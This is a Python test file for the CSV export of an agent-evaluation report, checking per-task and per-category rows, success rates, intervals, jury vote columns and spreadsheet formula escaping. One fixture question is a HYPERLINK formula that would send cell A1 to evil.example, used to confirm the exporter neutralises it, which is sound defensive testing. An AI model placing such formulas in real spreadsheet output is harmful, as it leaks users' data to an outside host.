"""``tasks.csv`` and ``categories.csv`` (``evaluation/report/export.py``): one row per task, read
back with ``csv.DictReader``, every value the one ``report.json`` holds."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from evaluation.report.build import build_report
from evaluation.report.export import OVERALL, THOUGHTS_EXCERPT, category_table, task_table
from evaluation.report.files import FORMATS, write_reports
from evaluation.report.models import InputInfo, JudgeInfo, Report, TaskInfo
from evaluation.taxonomy.model import Diagnosis
from tests.evaluation.report.support import built, record, trajectory

pytestmark = pytest.mark.timeout(60)

QUESTIONS = {
    "t-success": 'Find "the" cheapest flight, Paris → Tōkyō;\nthen book it',
    "t-failure": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "t-abstain": "- list the files",
    "t-unjudged": "a task the judge never decided",
    "t-missing": "a task without a trajectory",
}
LONG_THOUGHTS = "The agent called the tool.\n\n" + "It checked the result carefully. " * 40


def _report() -> Report:
    categories = {
        "t-success": "Office", "t-failure": "Office", "t-abstain": "Travel", "t-unjudged": "Travel", "t-missing": "Lifestyle",
    }
    universe = [
        TaskInfo(task_id=task_id, question=question, category=categories[task_id]) for task_id, question in QUESTIONS.items()
    ]
    success = record("t-success", "success", category="Office")
    success.thoughts = LONG_THOUGHTS
    records = [success, record("t-failure", "failure", category="Office"), record("t-abstain", "abstain", category="Travel")]
    trajectories = [
        trajectory("t-success", executes=3, routes=[["echo"]], tokens=(1200, 340), cost=0.0004),
        trajectory("t-failure", executes=1, tokens=(10, 5), cost=None),
        trajectory("t-abstain", executes=2, unavailable="maps"),
        trajectory("t-unjudged"),
    ]
    report = build_report(
        universe=universe,
        trajectories={t.task_id: t for t in trajectories},
        verdicts={r.task_id: r for r in records},
        human={"t-success": True, "t-failure": True},
        judge=JudgeInfo(models=["judge-a"], prompt="livemcpeval", key_points="annotated"),
        inputs=InputInfo(),
    )
    failure = next(row for row in report.tasks if row.task_id == "t-failure")
    failure.diagnosis = Diagnosis(task_id="t-failure", label="tool", reason="every call failed", cause="invalid_params")
    return report


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _number(text: str) -> float | None:
    return None if text == "" else float(text)


def test_csv_is_one_of_the_formats_the_judge_writes_by_default() -> None:
    assert "csv" in FORMATS


def test_tasks_csv_has_a_row_for_every_task_in_the_reports_order_with_its_values(tmp_path: Path) -> None:
    report = _report()
    written = write_reports(report, tmp_path, formats=("json", "csv"))
    assert [path.name for path in written] == ["report.json", "tasks.csv", "categories.csv", "tools.csv"]
    saved = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    rows = _read_csv(tmp_path / "tasks.csv")
    # Every task, the unjudged and the one without a trajectory too, in report.json's order.
    assert [row["task_id"] for row in rows] == [task["task_id"] for task in saved["tasks"]] == list(QUESTIONS)
    by_id = {row["task_id"]: row for row in rows}
    assert {task_id: (row["outcome"], row["judge_verdict"], row["success"]) for task_id, row in by_id.items()} == {
        "t-success": ("success", "success", "1"),
        "t-failure": ("failure", "failure", "0"),
        "t-abstain": ("abstain", "abstain", "0"),
        "t-unjudged": ("not_judged", "", ""),  # no verdict, left out of the rate: empty, not 0
        "t-missing": ("no_trajectory", "", "0"),  # counted as a failure, as the rate does
    }
    # The success column's mean is the report's rate.
    counted = [int(row["success"]) for row in rows if row["success"]]
    assert sum(counted) / len(counted) == saved["success_rate"]
    for task in saved["tasks"]:
        row = by_id[task["task_id"]]
        assert row["category"] == task["category"] and row["outcome"] == task["verdict"]
        assert row["question"] == task["question"] or row["question"] == "'" + task["question"]
        for column, field in (
            ("turns", "turns"), ("route_calls", "route_calls"), ("execute_calls", "execute_calls"),
            ("distinct_tools", "distinct_tools"), ("tool_errors", "tool_errors"), ("agent_input_tokens", "input_tokens"),
            ("agent_output_tokens", "output_tokens"), ("agent_cost_usd", "cost"), ("gold_rank", "gold_rank"),
        ):
            assert _number(row[column]) == task[field], (task["task_id"], column)
        for column in ("has_trajectory", "complete", "gold_executed"):
            field = column
            assert row[column] == ("" if task[field] is None else json.dumps(task[field])), (task["task_id"], column)
        human = {True: "success", False: "failure", None: ""}[task["human"]]
        assert row["human_label"] == human
        assert row["run_status"] == (task["run_status"] or "") and row["started"] == (task["started"] or "")
    success = by_id["t-success"]
    assert success["agent_cost_usd"] == "0.0004" and success["agent_input_tokens"] == "1200"  # unformatted
    assert by_id["t-failure"]["agent_cost_usd"] == ""  # no cost logged: empty, never 0
    assert by_id["t-missing"]["agent_input_tokens"] == "" and by_id["t-missing"]["turns"] == ""
    assert (by_id["t-failure"]["error_class"], by_id["t-failure"]["error_cause"]) == ("tool", "invalid_params")


def test_text_survives_the_round_trip_and_spreadsheets_run_no_formula(tmp_path: Path) -> None:
    write_reports(_report(), tmp_path, formats=("csv",))
    raw = (tmp_path / "tasks.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and "Tōkyō".encode() in raw  # UTF-8, no BOM
    by_id = {row["task_id"]: row for row in _read_csv(tmp_path / "tasks.csv")}
    # Commas, quotes, a line break and non-ASCII text come back exactly.
    assert by_id["t-success"]["question"] == QUESTIONS["t-success"]
    # A cell a spreadsheet would run as a formula is shown as text.
    assert by_id["t-failure"]["question"] == "'" + QUESTIONS["t-failure"]
    assert by_id["t-abstain"]["question"] == "'" + QUESTIONS["t-abstain"]
    thoughts = by_id["t-success"]["thoughts_excerpt"]
    assert thoughts.startswith("The agent called the tool. It checked") and thoughts.endswith(" […]")
    assert "\n" not in thoughts and len(thoughts) <= THOUGHTS_EXCERPT + len(" […]")
    assert by_id["t-failure"]["thoughts_excerpt"] == ""


def test_categories_csv_matches_the_reports_rates_and_intervals(tmp_path: Path) -> None:
    write_reports(_report(), tmp_path, formats=("json", "csv"))
    saved = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    rows = _read_csv(tmp_path / "categories.csv")
    assert list(rows[0]) == [
        "category", "tasks", "not_judged", "n", "successes",
        "success_rate_fraction", "ci95_low_fraction", "ci95_high_fraction",
    ]
    assert [row["category"] for row in rows] == [*saved["by_category"], OVERALL]
    for row in rows[:-1]:
        rate = saved["by_category"][row["category"]]
        assert (int(row["n"]), int(row["successes"])) == (rate["n"], rate["success"])
        assert _number(row["success_rate_fraction"]) == rate["rate"]
        assert [_number(row["ci95_low_fraction"]), _number(row["ci95_high_fraction"])] == rate["ci95"]
        members = [task for task in saved["tasks"] if task["category"] == row["category"]]
        assert int(row["tasks"]) == len(members)
        assert int(row["not_judged"]) == sum(1 for task in members if task["verdict"] == "not_judged")
    overall = rows[-1]
    assert (int(overall["tasks"]), int(overall["not_judged"]), int(overall["n"]), int(overall["successes"])) == (5, 1, 4, 1)
    assert _number(overall["success_rate_fraction"]) == saved["success_rate"] == 0.25  # a fraction, not 25
    assert [_number(overall["ci95_low_fraction"]), _number(overall["ci95_high_fraction"])] == saved["ci95"]
    travel = next(row for row in rows if row["category"] == "Travel")
    assert (travel["tasks"], travel["not_judged"], travel["n"], travel["success_rate_fraction"]) == ("2", "1", "1", "0.0")


def test_a_category_without_an_outcome_has_empty_rate_cells_not_zero() -> None:
    report = built({"t1": "Office", "t2": "Travel"}, [trajectory("t1"), trajectory("t2")], [record("t1", "success")])
    columns, rows = category_table(report)
    travel = next(row for row in rows if row["category"] == "Travel")
    rate = (travel["n"], travel["success_rate_fraction"], travel["ci95_low_fraction"], travel["ci95_high_fraction"])
    assert rate == ("0", "", "", "")
    assert rows[-1]["category"] == OVERALL and rows[-1]["success_rate_fraction"] == "1.0"


def test_a_jury_gets_one_vote_column_per_judge_and_the_order_is_stable(tmp_path: Path) -> None:
    votes = {"m1": "success", "m2": "failure", "m3": "success"}
    report = built(
        {"b": "Office", "a": "Office", "c": "Office"},
        [trajectory("a"), trajectory("b")],
        [record("a", "success", votes), record("b", "failure", {"m1": "failure", "m2": "failure", "m3": "abstain"})],
        models=("m1", "m2", "m3"),
    )
    columns, rows = task_table(report)
    assert [column for column in columns if column.startswith("vote_")] == ["vote_m1", "vote_m2", "vote_m3"]
    assert columns.index("vote_m3") + 1 == columns.index("human_label")
    assert [row["task_id"] for row in rows] == ["b", "a", "c"]  # the report's order (the task list's)
    assert [row["vote_m2"] for row in rows] == ["failure", "failure", ""]
    write_reports(report, tmp_path / "one", formats=("csv",))
    write_reports(report, tmp_path / "two", formats=("csv",))
    assert (tmp_path / "one" / "tasks.csv").read_bytes() == (tmp_path / "two" / "tasks.csv").read_bytes()
    assert _read_csv(tmp_path / "one" / "tasks.csv")[1]["vote_m3"] == "success"
    single = built({"a": "Office"}, [trajectory("a")], [record("a", "success")])
    assert not [column for column in task_table(single)[0] if column.startswith("vote_")]


def test_tools_csv_has_every_tool_of_the_report_with_its_counts(tmp_path: Path) -> None:
    report = _report()
    write_reports(report, tmp_path, formats=("csv",))
    rows = _read_csv(tmp_path / "tools.csv")
    assert [(row["server"], row["tool"]) for row in rows] == [(tool.server, tool.tool) for tool in report.tools]
    assert rows and all(int(row["executed"]) == tool.executed and int(row["routed"]) == tool.routed for row, tool in zip(rows, report.tools, strict=True))
